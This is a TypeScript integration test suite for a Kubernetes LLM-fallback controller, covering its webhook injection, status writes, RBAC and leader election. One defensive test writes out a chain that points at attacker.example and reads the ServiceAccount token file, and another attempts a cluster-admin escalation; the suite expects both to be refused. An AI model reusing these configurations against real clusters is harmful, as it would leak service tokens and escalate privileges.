// `llm-fallback controller` on a real kube-apiserver: the webhook, registered with the server
// (HTTPS, caBundle of a throwaway CA), injects annotated pods and pods of labelled namespaces
// created through the API; the leader writes FallbackChain status (and nothing when nothing
// changed); two replicas elect one leader on a Lease and hand over on shutdown; the
// chain-reader RoleBinding appears where injection is enabled and `kubectl auth can-i` as a
// ServiceAccount proves what it grants. The controller itself runs as a ServiceAccount bound
// to controllerClusterRole(), so the RBAC rules the chart renders are proven sufficient too.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import {
  AdmissionregistrationV1Api,
  CoordinationV1Api,
  CoreV1Api,
  CustomObjectsApi,
  PatchStrategy,
  RbacAuthorizationV1Api,
  setHeaderOptions,
  type KubeConfig,
  type V1Pod,
} from '@kubernetes/client-node';
import { startController, type RunningController } from '../../src/controller.ts';
import type { ControllerOptions } from '../../src/config/options.ts';
import { createLogger, type Logger } from '../../src/observability/logger.ts';
import { chainReaderClusterRole, controllerClusterRole } from '../../src/k8s/rbac.ts';
import { startKube, type KubeHarness } from '../support/kube-harness.ts';
import { makeTestCerts, type TestCerts } from '../support/test-certs.ts';
import { eventually } from '../support/eventually.ts';

const SYSTEM_NS = 'llm-fallback-system';
const LEASE = 'llm-fallback-controller';
const GROUP = { group: 'llmfallback.io', version: 'v1alpha1', plural: 'fallbackchains' };

type Json = Record<string, unknown>;
interface LogLine {
  msg: string;
  [key: string]: unknown;
}

function memoryLogger(): { logger: Logger; lines: LogLine[] } {
  const lines: LogLine[] = [];
  const logger = createLogger('info', { write: (line: string) => void lines.push(JSON.parse(line) as LogLine) });
  return { logger, lines };
}

function chain(name: string, model: string): Json {
  return {
    apiVersion: 'llmfallback.io/v1alpha1',
    kind: 'FallbackChain',
    metadata: { name },
    spec: {
      providers: [{ name: 'p', api: 'openai', baseURL: 'http://127.0.0.1:9/v1', apiKey: { secretKey: 'p' } }],
      steps: [{ provider: 'p', model }],
    },
  };
}

function pod(name: string, annotations: Record<string, string> = {}, extra: Partial<V1Pod['spec']> = {}): V1Pod {
  return {
    metadata: { name, annotations },
    spec: { containers: [{ name: 'app', image: 'registry.example/app:1', env: [{ name: 'MODE', value: 'test' }] }], ...extra },
  };
}

/** The generated client returns class instances; compare as plain JSON. */
function plain(value: unknown): unknown {
  return JSON.parse(JSON.stringify(value)) as unknown;
}

function statusOf(object: Json): { observedGeneration?: number; conditions?: Array<Record<string, string>> } {
  return object['status'] ?? {};
}

/** Field managers that wrote the status subresource of an object. */
function statusManagers(object: Json): string[] {
  const fields = ((object['metadata'] as Json)['managedFields'] ?? []) as Array<{ manager?: string; subresource?: string }>;
  return fields.filter((f) => f.subresource === 'status').map((f) => f.manager ?? '');
}

describe('controller on a real API server', () => {
  let kube: KubeHarness;
  let certs: TestCerts;
  let admin: KubeConfig;
  let controllerKc: KubeConfig;
  let core: CoreV1Api;
  let custom: CustomObjectsApi;
  const running: RunningController[] = [];
  const logs = memoryLogger();
  const logsB = memoryLogger();
  let first: RunningController;

  const optionsFor = (identity: string): ControllerOptions => ({
    host: '127.0.0.1',
    port: 0,
    healthPort: 0,
    tlsCertFile: certs.certFile,
    tlsKeyFile: certs.keyFile,
    tlsReloadIntervalMs: 0,
    namespace: SYSTEM_NS,
    leaseName: LEASE,
    identity,
    leaseDurationSeconds: 15,
    renewIntervalMs: 500,
    namespaceCacheMs: 30_000,
    namespaceLookupTimeoutMs: 2000,
    logLevel: 'info',
    env: {},
  });

  const getChain = async (namespace: string, name: string): Promise<Json> => (await custom.getNamespacedCustomObject({ ...GROUP, namespace, name })) as Json;

  before(async () => {
    kube = await startKube();
    certs = await makeTestCerts();
    await kube.installCrd();
    admin = kube.kubeConfig();
    core = admin.makeApiClient(CoreV1Api);
    custom = admin.makeApiClient(CustomObjectsApi);

    // The controller's identity: a ServiceAccount with exactly the rules the chart grants.
    await kube.createNamespace(SYSTEM_NS);
    controllerKc = (await kube.serviceAccountKubeConfig(SYSTEM_NS, 'controller')).kubeConfig;
    const rbac = admin.makeApiClient(RbacAuthorizationV1Api);
    await rbac.createClusterRole({ body: chainReaderClusterRole() });
    await rbac.createClusterRole({ body: controllerClusterRole() });
    await rbac.createClusterRoleBinding({
      body: {
        metadata: { name: 'llm-fallback-controller' },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'llm-fallback-controller' },
        subjects: [{ kind: 'ServiceAccount', name: 'controller', namespace: SYSTEM_NS }],
      },
    });

    await kube.createNamespace('shop');
    await kube.createNamespace('team-a', { 'llmfallback.io/inject': 'enabled' });
    await kube.createNamespace('plain');

    first = await startController(optionsFor('controller-a'), { logger: logs.logger, kubeConfig: controllerKc });
    running.push(first);
    await eventually('controller-a to lead', async () => (first.isLeader() ? true : undefined));

    await admin.makeApiClient(AdmissionregistrationV1Api).createMutatingWebhookConfiguration({
      body: {
        metadata: { name: 'llm-fallback-injector' },
        webhooks: [
          {
            name: 'inject.llmfallback.io',
            admissionReviewVersions: ['v1'],
            sideEffects: 'NoneOnDryRun',
            failurePolicy: 'Fail',
            timeoutSeconds: 10,
            clientConfig: { url: first.webhookUrl, caBundle: Buffer.from(certs.caCert).toString('base64') },
            rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods'], scope: 'Namespaced' }],
            namespaceSelector: { matchExpressions: [{ key: 'kubernetes.io/metadata.name', operator: 'NotIn', values: ['kube-system', SYSTEM_NS] }] },
          },
        ],
      },
    });
    // The API server picks up webhook configurations asynchronously: dry-run until it calls us.
    await eventually('the API server to call the webhook', async () => {
      const probe = await core.createNamespacedPod({ namespace: 'plain', body: pod('probe', { 'llmfallback.io/inject': 'true' }), dryRun: 'All' });
      return probe.spec?.initContainers?.some((c) => c.name === 'llm-fallback') ? true : undefined;
    });
  });

  after(async () => {
    for (const controller of running) await controller.stop();
    await kube?.stop();
    await certs?.remove();
  });

  describe('webhook', () => {
    test('an annotated Pod created through the API comes back with the native sidecar and the app env', async () => {
      const created = await core.createNamespacedPod({
        namespace: 'shop',
        body: pod('chat', { 'llmfallback.io/inject': 'true', 'llmfallback.io/credentials-secret': 'llm-keys' }),
      });
      const stored = await core.readNamespacedPod({ namespace: 'shop', name: 'chat' });
      for (const p of [created, stored]) {
        const sidecars = (p.spec?.initContainers ?? []).filter((c) => c.name === 'llm-fallback');
        assert.equal(sidecars.length, 1);
        const sidecar = sidecars[0]!;
        assert.equal(sidecar.restartPolicy, 'Always');
        assert.equal(sidecar.startupProbe?.httpGet?.path, '/readyz');
        assert.deepEqual(plain(sidecar.volumeMounts?.find((m) => m.name === 'llm-fallback-credentials')), {
          name: 'llm-fallback-credentials',
          mountPath: '/etc/llm-fallback/credentials',
          readOnly: true,
        });
        assert.equal(p.spec?.volumes?.find((v) => v.name === 'llm-fallback-credentials')?.secret?.secretName, 'llm-keys');
        const env = Object.fromEntries((p.spec?.containers[0]?.env ?? []).map((e) => [e.name, e.value]));
        assert.deepEqual(env, { MODE: 'test', OPENAI_BASE_URL: 'http://127.0.0.1:4000/v1', ANTHROPIC_BASE_URL: 'http://127.0.0.1:4000' });
        assert.equal(p.metadata?.annotations?.['llmfallback.io/status'], 'injected');
        assert.equal(p.metadata?.labels?.['llmfallback.io/injected'], 'true');
      }
      assert.ok(logs.lines.some((l) => l.msg === 'webhook: injected' && l['pod'] === 'chat' && l['namespace'] === 'shop'));
    });

    test('an unannotated Pod in an unlabelled namespace is stored exactly as sent', async () => {
      const created = await core.createNamespacedPod({ namespace: 'shop', body: pod('plain-web') });
      assert.equal(created.spec?.initContainers, undefined);
      assert.deepEqual(plain(created.spec?.containers.map((c) => c.env)), [[{ name: 'MODE', value: 'test' }]]);
      assert.equal(created.metadata?.annotations?.['llmfallback.io/status'], undefined);
      assert.equal(created.metadata?.labels?.['llmfallback.io/injected'], undefined);
    });

    test('in a namespace labelled llmfallback.io/inject=enabled a plain pod is injected, one saying "false" is not', async () => {
      const injected = await core.createNamespacedPod({ namespace: 'team-a', body: pod('worker') });
      assert.deepEqual(
        injected.spec?.initContainers?.map((c) => c.name),
        ['llm-fallback'],
      );
      const optedOut = await core.createNamespacedPod({ namespace: 'team-a', body: pod('batch', { 'llmfallback.io/inject': 'false' }) });
      assert.equal(optedOut.spec?.initContainers, undefined);
      assert.equal(optedOut.metadata?.annotations?.['llmfallback.io/status'], undefined);
    });

    test('a hostNetwork pod is created, not injected, with the reason recorded on it', async () => {
      const created = await core.createNamespacedPod({
        namespace: 'shop',
        body: pod('node-agent', { 'llmfallback.io/inject': 'true' }, { hostNetwork: true }),
      });
      assert.equal(created.spec?.initContainers, undefined);
      assert.match(created.metadata?.annotations?.['llmfallback.io/status'] ?? '', /^skipped: hostNetwork/);
      // Issue 12, finding 11: the skip is an Event on the pod (reason: a constant), written by
      // the controller's own ServiceAccount, and counted in the controller's metrics.
      const event = await eventually('the HostNetwork Event', async () => {
        const list = await core.listNamespacedEvent({ namespace: 'shop', fieldSelector: 'involvedObject.name=node-agent' });
        return list.items.find((e) => e.reason === 'HostNetwork');
      });
      assert.equal(event.type, 'Warning');
      assert.equal(event.involvedObject.kind, 'Pod');
      assert.equal(event.source?.component, 'llm-fallback-controller');
      assert.match(event.message ?? '', /sidecar not injected: hostNetwork pods/);
      const metrics = await (await fetch(`${first.healthUrl}/metrics`)).text();
      assert.match(metrics, /llm_fallback_controller_injection_skips_total\{reason="HostNetwork"\} 1/);
      assert.match(metrics, /llm_fallback_controller_injections_total [1-9]/);
      assert.match(metrics, /llm_fallback_controller_webhook_duration_seconds_count [1-9]/);
    });

    test('a skipped pod with only a generateName still gets its Event, named after it', async () => {
      const body = pod('', { 'llmfallback.io/inject': 'true' }, { hostNetwork: true });
      body.metadata = { generateName: 'gen-', annotations: { 'llmfallback.io/inject': 'true' } };
      await core.createNamespacedPod({ namespace: 'shop', body });
      const event = await eventually('the Event for gen-', async () => {
        const list = await core.listNamespacedEvent({ namespace: 'shop', fieldSelector: 'involvedObject.name=gen-' });
        return list.items.find((e) => e.reason === 'HostNetwork');
      });
      assert.match(event.metadata?.name ?? '', /^gen\.llm-fallback\./);
    });

    test('a pod created from an already injected template is accepted unchanged (no second sidecar)', async () => {
      const template = await core.readNamespacedPod({ namespace: 'shop', name: 'chat' });
      const copy: V1Pod = {
        metadata: { name: 'chat-copy', annotations: template.metadata?.annotations, labels: template.metadata?.labels },
        spec: template.spec,
      };
      const created = await core.createNamespacedPod({ namespace: 'shop', body: copy });
      assert.equal(created.spec?.initContainers?.filter((c) => c.name === 'llm-fallback').length, 1);
      assert.equal(created.spec?.containers[0]?.env?.filter((e) => e.name === 'OPENAI_BASE_URL').length, 1);
    });
  });

  describe('status', () => {
    test('a valid FallbackChain gets Ready=True/Valid, and observedGeneration follows a spec update', async () => {
      await custom.createNamespacedCustomObject({ ...GROUP, namespace: 'shop', body: chain('chat', 'm1') });
      const firstStatus = await eventually('Ready True for generation 1', async () => {
        const object = await getChain('shop', 'chat');
        const status = statusOf(object);
        return status.observedGeneration === 1 && status.conditions?.[0]?.['status'] === 'True' ? object : undefined;
      });
      const ready = statusOf(firstStatus).conditions?.[0];
      assert.equal(ready?.['type'], 'Ready');
      assert.equal(ready?.['reason'], 'Valid');
      assert.ok(ready?.['lastTransitionTime']);

      await custom.patchNamespacedCustomObject(
        { ...GROUP, namespace: 'shop', name: 'chat', body: { spec: { steps: [{ provider: 'p', model: 'm2' }] } } },
        setHeaderOptions('Content-Type', PatchStrategy.MergePatch),
      );
      const second = await eventually('observedGeneration 2', async () => {
        const object = await getChain('shop', 'chat');
        return statusOf(object).observedGeneration === 2 ? object : undefined;
      });
      // Still True: the transition time stays where it was.
      assert.equal(statusOf(second).conditions?.[0]?.['lastTransitionTime'], ready?.['lastTransitionTime']);
      assert.deepEqual(statusManagers(second), ['controller-a']);
    });

    test('a chain naming the sidecar token file or its env gets Ready=False/CredentialsRefused (issue 12, finding 1)', async () => {
      const steal = chain('steal', 'm1');
      const providers = (steal['spec'] as Json)['providers'] as Json[];
      providers[0] = { name: 'p', baseURL: 'https://attacker.example/v1', apiKey: { file: '/var/run/secrets/kubernetes.io/serviceaccount/token' } };
      await custom.createNamespacedCustomObject({ ...GROUP, namespace: 'shop', body: steal });
      const ready = await eventually('Ready False for steal', async () => {
        const condition = statusOf(await getChain('shop', 'steal')).conditions?.[0];
        return condition?.['status'] === 'False' ? condition : undefined;
      });
      assert.equal(ready['reason'], 'CredentialsRefused');
      assert.match(ready['message'] ?? '', /^\/spec\/providers\/0\/apiKey\/file: local_credentials_refused: apiKey\.file is refused in Kubernetes/);
      const metrics = await (await fetch(`${first.healthUrl}/metrics`)).text();
      assert.match(metrics, /llm_fallback_controller_status_writes_total\{ready="False"\} [1-9]/);
    });

    test('a change that does not touch the spec causes no status write (no hot loop)', async () => {
      await custom.createNamespacedCustomObject({ ...GROUP, namespace: 'shop', body: chain('quiet', 'm1') });
      await eventually('quiet to get its status', async () => (statusOf(await getChain('shop', 'quiet')).observedGeneration === 1 ? true : undefined));
      await custom.patchNamespacedCustomObject(
        { ...GROUP, namespace: 'shop', name: 'quiet', body: { metadata: { labels: { touched: 'yes' } } } },
        setHeaderOptions('Content-Type', PatchStrategy.MergePatch),
      );
      const afterLabel = ((await getChain('shop', 'quiet'))['metadata'] as Json)['resourceVersion'];
      // Barrier: one watch stream delivers events in order, so once a later object's status is
      // written the label event of "quiet" has been handled too.
      await custom.createNamespacedCustomObject({ ...GROUP, namespace: 'shop', body: chain('barrier', 'm1') });
      await eventually('barrier to get its status', async () => (statusOf(await getChain('shop', 'barrier')).observedGeneration === 1 ? true : undefined));
      assert.equal(((await getChain('shop', 'quiet'))['metadata'] as Json)['resourceVersion'], afterLabel, 'the status of quiet was written again');
      const writes = logs.lines.filter((l) => l.msg === 'FallbackChain status written' && l['name'] === 'quiet');
      assert.equal(writes.length, 1);
    });
  });

  describe('RBAC', () => {
    test('the chain-reader RoleBinding appears in the labelled namespace and where a pod was injected, nowhere else', async () => {
      const rbac = admin.makeApiClient(RbacAuthorizationV1Api);
      for (const namespace of ['team-a', 'shop']) {
        const binding = await eventually(`RoleBinding in ${namespace}`, async () => {
          try {
            return await rbac.readNamespacedRoleBinding({ namespace, name: 'llm-fallback-chain-reader' });
          } catch {
            return undefined;
          }
        });
        assert.deepEqual(plain(binding.roleRef), { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'llm-fallback-chain-reader' });
        assert.deepEqual(
          binding.subjects?.map((s) => `${s.kind}:${s.name}`),
          [`Group:system:serviceaccounts:${namespace}`],
        );
        // Owned by the chain-reader ClusterRole, so the garbage collector removes it with the
        // role on `helm uninstall` (proven on a real node by test/e2e).
        const role = await rbac.readClusterRole({ name: 'llm-fallback-chain-reader' });
        assert.deepEqual(
          binding.metadata?.ownerReferences?.map((o) => `${o.kind}/${o.name}/${o.uid}`),
          [`ClusterRole/llm-fallback-chain-reader/${role.metadata?.uid}`],
        );
      }
      const inPlain = await rbac.listNamespacedRoleBinding({ namespace: 'plain' });
      assert.deepEqual(
        inPlain.items.map((b) => b.metadata?.name),
        [],
      );
    });

    test('kubectl auth can-i as a ServiceAccount of team-a: its own chains yes, Secrets and other namespaces no', async () => {
      const { kubeconfigPath } = await kube.serviceAccountKubeConfig('team-a', 'app');
      const canI = async (...args: string[]): Promise<string> => {
        const result = await kube.kubectl(['auth', 'can-i', ...args], { kubeconfigPath });
        return result.stdout.trim();
      };
      const rows: Array<{ args: string[]; expect: 'yes' | 'no' }> = [
        // Proves the sidecar can list FallbackChains of its own namespace.
        { args: ['list', 'fallbackchains.llmfallback.io', '-n', 'team-a'], expect: 'yes' },
        // Proves the sidecar can watch them (the informer needs both).
        { args: ['watch', 'fallbackchains.llmfallback.io', '-n', 'team-a'], expect: 'yes' },
        // Proves it cannot change them.
        { args: ['update', 'fallbackchains.llmfallback.io', '-n', 'team-a'], expect: 'no' },
        // Proves it cannot read Secrets (keys come from the mounted Secret, not the API).
        { args: ['get', 'secrets', '-n', 'team-a'], expect: 'no' },
        // Proves it cannot read another namespace's chains, even one with its own binding.
        { args: ['list', 'fallbackchains.llmfallback.io', '-n', 'shop'], expect: 'no' },
        // Proves there is no cluster-wide read either.
        { args: ['list', 'fallbackchains.llmfallback.io', '--all-namespaces'], expect: 'no' },
      ];
      for (const row of rows) assert.equal(await canI(...row.args), row.expect, row.args.join(' '));
    });
  });

  describe('controller RBAC (issue 12, finding 11)', () => {
    test('kubectl auth can-i as the controller: only the chain-reader RoleBinding may be changed; create and events stay', async () => {
      const { kubeconfigPath } = await kube.serviceAccountKubeConfig(SYSTEM_NS, 'controller');
      const canI = async (...args: string[]): Promise<string> => (await kube.kubectl(['auth', 'can-i', ...args], { kubeconfigPath })).stdout.trim();
      const rows: Array<{ args: string[]; expect: 'yes' | 'no' }> = [
        // Its own binding, in any namespace: read, replace, delete (re-create on a roleRef change).
        { args: ['update', 'rolebindings/llm-fallback-chain-reader', '-n', 'shop'], expect: 'yes' },
        { args: ['delete', 'rolebindings/llm-fallback-chain-reader', '-n', 'plain'], expect: 'yes' },
        // Any other RoleBinding: not even read.
        { args: ['update', 'rolebindings/admin-binding', '-n', 'shop'], expect: 'no' },
        { args: ['delete', 'rolebindings/admin-binding', '-n', 'kube-system'], expect: 'no' },
        { args: ['get', 'rolebindings/admin-binding', '-n', 'shop'], expect: 'no' },
        { args: ['list', 'rolebindings', '-n', 'shop'], expect: 'no' },
        // create cannot be narrowed by name (the escalation check bounds what it can grant).
        { args: ['create', 'rolebindings', '-n', 'shop'], expect: 'yes' },
        // Events for injection skips.
        { args: ['create', 'events', '-n', 'shop'], expect: 'yes' },
      ];
      for (const row of rows) assert.equal(await canI(...row.args), row.expect, row.args.join(' '));
    });

    test('the escalation check: the controller cannot bind cluster-admin with its create right', async () => {
      const { kubeConfig } = await kube.serviceAccountKubeConfig(SYSTEM_NS, 'controller');
      const rbac = kubeConfig.makeApiClient(RbacAuthorizationV1Api);
      await assert.rejects(
        rbac.createNamespacedRoleBinding({
          namespace: 'plain',
          body: {
            metadata: { name: 'escalate' },
            roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
            subjects: [{ kind: 'ServiceAccount', name: 'controller', namespace: SYSTEM_NS }],
          },
        }),
        (error: unknown) => (error as { code?: number }).code === 403,
      );
    });
  });

  describe('leader election', () => {
    test('a second replica serves the webhook but does not lead; only the leader writes status', async () => {
      const second = await startController(optionsFor('controller-b'), { logger: logsB.logger, kubeConfig: controllerKc });
      running.push(second);
      await eventually('controller-b to follow controller-a', async () =>
        logsB.lines.some((l) => l.msg === 'following the leader' && l['leader'] === 'controller-a') ? true : undefined,
      );
      const lease = await admin.makeApiClient(CoordinationV1Api).readNamespacedLease({ namespace: SYSTEM_NS, name: LEASE });
      assert.equal(lease.spec?.holderIdentity, 'controller-a');
      assert.equal(first.isLeader(), true);
      assert.equal(second.isLeader(), false);

      await custom.createNamespacedCustomObject({ ...GROUP, namespace: 'shop', body: chain('two-replicas', 'm1') });
      const object = await eventually('two-replicas status', async () => {
        const o = await getChain('shop', 'two-replicas');
        return statusOf(o).observedGeneration === 1 ? o : undefined;
      });
      assert.deepEqual(statusManagers(object), ['controller-a']);
      assert.equal(logsB.lines.filter((l) => l.msg === 'FallbackChain status written').length, 0);
    });

    test('when the leader stops it releases the Lease and the other replica takes over at once', async () => {
      const second = running[1];
      assert.ok(second, 'the previous test started controller-b');
      const started = Date.now();
      await first.stop();
      running.splice(running.indexOf(first), 1);
      await eventually('controller-b to lead', async () => (second.isLeader() ? true : undefined));
      // Released, not expired: well before the 15 s lease duration.
      assert.ok(Date.now() - started < 10_000, `took ${Date.now() - started} ms`);
      const lease = await admin.makeApiClient(CoordinationV1Api).readNamespacedLease({ namespace: SYSTEM_NS, name: LEASE });
      assert.equal(lease.spec?.holderIdentity, 'controller-b');
      assert.equal(lease.spec?.leaseTransitions, 1);

      await custom.createNamespacedCustomObject({ ...GROUP, namespace: 'shop', body: chain('after-failover', 'm1') });
      const object = await eventually('after-failover status', async () => {
        const o = await getChain('shop', 'after-failover');
        return statusOf(o).observedGeneration === 1 ? o : undefined;
      });
      assert.deepEqual(statusManagers(object), ['controller-b']);
    });
  });
});
